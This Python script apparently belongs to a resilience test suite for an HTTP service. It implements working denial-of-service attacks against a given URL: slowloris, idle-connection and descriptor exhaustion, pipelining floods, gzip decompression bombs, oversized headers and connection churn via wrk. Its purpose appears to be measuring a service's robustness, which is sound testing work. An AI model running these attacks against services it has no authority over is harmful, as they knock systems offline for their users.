#!/usr/bin/env python3
"""Clients that no service wants: attacks.py NAME URL SECONDS [COUNT].

A process of its own, so that it does not slow down the clients whose latency is measured. Prints `ready` once the
attack is on, and in the end one line of JSON that says what it has done.
"""

import collections
import gzip
import json
import random
import resource
import select
import signal
import socket
import struct
import subprocess
import sys
import time
from urllib.parse import urlsplit

GET = b"GET /healthz HTTP/1.1\r\nHost: attack\r\n\r\n"
READ = select.EPOLLIN | select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR


class Crowd:
    """Connections by their descriptors, and what has become of them."""

    def __init__(self, url):
        parts = urlsplit(url)
        self.address = parts.hostname, parts.port
        self.epoll = select.epoll()
        self.open = {}
        self.done = collections.Counter()
        self.status = collections.Counter()

    def connect(self, events=READ):
        """A new connection, nonblocking from now on; `None` when the service has no room for it."""
        connection = socket.socket()
        connection.settimeout(5)
        try:
            connection.connect(self.address)
        except OSError:
            connection.close()
            self.done["not connected"] += 1
            return None
        connection.setblocking(False)
        self.open[connection.fileno()] = connection
        self.epoll.register(connection, events)
        self.done["connected"] += 1
        return connection

    def close(self, connection, reset=False):
        if reset:
            # No TIME_WAIT: the ports of one client address would run out.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.open.pop(connection.fileno(), None)
        connection.close()

    def send(self, connection, data):
        """Sends what the kernel takes; returns how much, -1 when the connection has ended."""
        try:
            return connection.send(data)
        except BlockingIOError:
            return 0
        except OSError:
            return -1

    def received(self, connection):
        """What has come: bytes, empty at the end of the connection, `None` for nothing yet."""
        try:
            data = connection.recv(1 << 18)
        except BlockingIOError:
            return None
        except OSError:
            return b""
        if data.startswith(b"HTTP/1.1 "):
            self.status[data[9:12].decode()] += 1
        return data

    def ready(self, seconds):
        """Connections about which there is something to know."""
        return [(self.open[number], events) for number, events in self.epoll.poll(max(0, seconds))
                if number in self.open]

    def expire(self):
        """Takes what has come, and counts and forgets what the service has closed."""
        for connection, _ in self.ready(0):
            while data := self.received(connection):
                pass
            if data == b"":
                self.done["closed by the service"] += 1
                self.close(connection)


def begin():
    print("ready", flush=True)


def slowloris(crowd, seconds, count=1_000):
    """Heads that never end: a field line now and then on each of many connections, and new ones for those closed."""
    end, opened = time.monotonic() + seconds, False
    while time.monotonic() < end:
        while len(crowd.open) < count and (connection := crowd.connect()):
            crowd.send(connection, b"POST /v1/events HTTP/1.1\r\nHost: attack\r\n")
        if not opened:
            opened = True
            begin()
        # Each of them once a second, spread over the second.
        connections = list(crowd.open.values())
        for start in range(0, len(connections), count // 100):
            for connection in connections[start:start + count // 100]:
                crowd.done["bytes sent"] += max(0, crowd.send(connection, b"X-A: a\r\n"))
            time.sleep(0.01)
        crowd.expire()


def idle(crowd, seconds, count=10_000):
    """Connections that have made one request and now do nothing."""
    answered = 0
    while crowd.done["connected"] < count and (connection := crowd.connect()):
        crowd.send(connection, GET)
        # Answered before more come: a burst of ten thousand handshakes would be another test.
        while crowd.done["connected"] % 64 == 0 and answered < crowd.done["connected"]:
            for connection, _ in crowd.ready(1):
                answered += 1
                if not crowd.received(connection):
                    crowd.close(connection)
    crowd.expire()
    begin()
    time.sleep(seconds)
    crowd.expire()
    crowd.done["open at the end"] = len(crowd.open)


def pipelining(crowd, seconds, count=1_000_000):
    """So many requests on one connection, as fast as they are taken; then as many whose answers nobody reads."""
    block = GET * 1_000
    begin()
    end = time.monotonic() + seconds
    connection, sent, answers, tail = crowd.connect(READ | select.EPOLLOUT), 0, 0, b""
    rest = block
    while answers < count and time.monotonic() < end:
        for _, events in crowd.ready(0.1):
            if events & select.EPOLLOUT and sent < count:
                rest = rest[max(0, crowd.send(connection, rest)):]
                if not rest:
                    sent += 1_000
                    rest = block
                if sent >= count:
                    crowd.epoll.modify(connection, READ)
            if events & READ:
                data = crowd.received(connection)
                if data == b"":
                    return
                answers += (tail + (data or b"")).count(b"HTTP/1.1 200")
                tail = (data or b"")[-11:]
    crowd.done["pipelined"], crowd.done["answered"] = sent, answers
    crowd.done["milliseconds"] = int((seconds - (end - time.monotonic())) * 1000)
    deaf = crowd.connect(select.EPOLLOUT)
    while deaf and time.monotonic() < end:
        if crowd.ready(0.1):
            crowd.done["bytes to a server that cannot answer"] += max(0, crowd.send(deaf, block))


def bombs(crowd, seconds, count=16):
    """Small bodies that inflate to a gigabyte, and to just below every limit, again and again."""
    endless = gzip.compress(b" " * (64 << 20), 9)[:64 << 10]
    # As large and as dense as is let through: 15 MiB, 145 times what is sent.
    lines = [b'{"type":"%s"%s}' % (random.randbytes(90).hex().encode(), b" " * 20_000) for _ in range(775)]
    dense = gzip.compress(b"[" + b",".join(lines) + b"]", 6)
    requests = [
        b"POST /v1/events?validate=only HTTP/1.1\r\nHost: attack\r\nContent-Encoding: gzip\r\n"
        b"Content-Type: application/%s\r\nContent-Length: %d\r\n\r\n" % (kind, length) + body
        for kind, body, length in (
            (b"json", endless, 1 << 20), (b"x-ndjson", endless, 1 << 20), (b"json", dense, len(dense)))]
    _storm(crowd, seconds, count, lambda number: requests[number % len(requests)])


def headers(crowd, seconds, count=64):
    """Heads of four gigabytes, or as much of them as is taken."""
    field = b"X-Long: " + b"a" * 8_000 + b"\r\n"
    block = b"GET /healthz HTTP/1.1\r\nHost: attack\r\n" + field * 30
    _storm(crowd, seconds, count, lambda _: block, more=field * 30, bytes_max=4 << 30)


def _storm(crowd, seconds, count, request, more=b"", bytes_max=0):
    """Keeps so many connections busy: a request on each, then what follows it, until the service closes it."""
    end, sent, rest = time.monotonic() + seconds, {}, {}
    begin()
    while time.monotonic() < end:
        while len(crowd.open) < count:
            if not (connection := crowd.connect(READ | select.EPOLLOUT)):
                break
            rest[connection] = memoryview(request(crowd.done["connected"]))
            sent[connection] = 0
        for connection, events in crowd.ready(0.1):
            ended = False
            if events & select.EPOLLOUT and rest[connection]:
                taken = crowd.send(connection, rest[connection])
                ended = taken < 0
                sent[connection] += max(0, taken)
                crowd.done["bytes sent"] += max(0, taken)
                rest[connection] = rest[connection][max(0, taken):]
                if not rest[connection] and sent[connection] < bytes_max:
                    rest[connection] = memoryview(more)
                if not rest[connection]:
                    crowd.epoll.modify(connection, READ)
            if events & READ and not ended:
                data = crowd.received(connection)
                ended = data == b""
                # An answer is the end of it, where the sender goes on anyway too.
                if data and not bytes_max:
                    ended = True
            if ended:
                rest.pop(connection), sent.pop(connection)
                crowd.close(connection)


def churn(crowd, seconds, count=64):
    """A connection for each request, as many a second as wrk can make on so many at once."""
    begin()
    address = "http://%s:%d/healthz" % crowd.address
    wrk = subprocess.Popen(["wrk", "-t1", f"-c{count}", f"-d{int(seconds)}s", "-H", "Connection: close", address],
                           stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
    try:
        wrk.wait()
    except SystemExit:
        # It prints what it has done when it is interrupted, too.
        wrk.send_signal(signal.SIGINT)
        raise
    finally:
        for line in wrk.communicate()[0].splitlines():
            if line.startswith(("Requests/sec:", "  Socket errors:", "  Non-2xx")):
                crowd.done[line.partition(":")[0].strip()] = line.partition(":")[2].strip()


def descriptors(crowd, seconds, count=2_000):
    """More connections than the service has descriptors for, and again as soon as one of them is closed."""
    end, opened = time.monotonic() + seconds, False
    while time.monotonic() < end:
        while len(crowd.open) < count and crowd.connect():
            pass
        if not opened:
            opened = True
            begin()
        crowd.expire()
        time.sleep(0.05)


ATTACKS = {attack.__name__: attack for attack in (
    slowloris, idle, pipelining, bombs, headers, churn, descriptors)}


def main():
    name, url, seconds, *count = sys.argv[1:]
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    # Whoever has seen enough says so.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    crowd = Crowd(url)
    try:
        ATTACKS[name](crowd, float(seconds), *map(int, count))
    finally:
        print(json.dumps({**crowd.done, "answers": crowd.status}), flush=True)


if __name__ == "__main__":
    main()
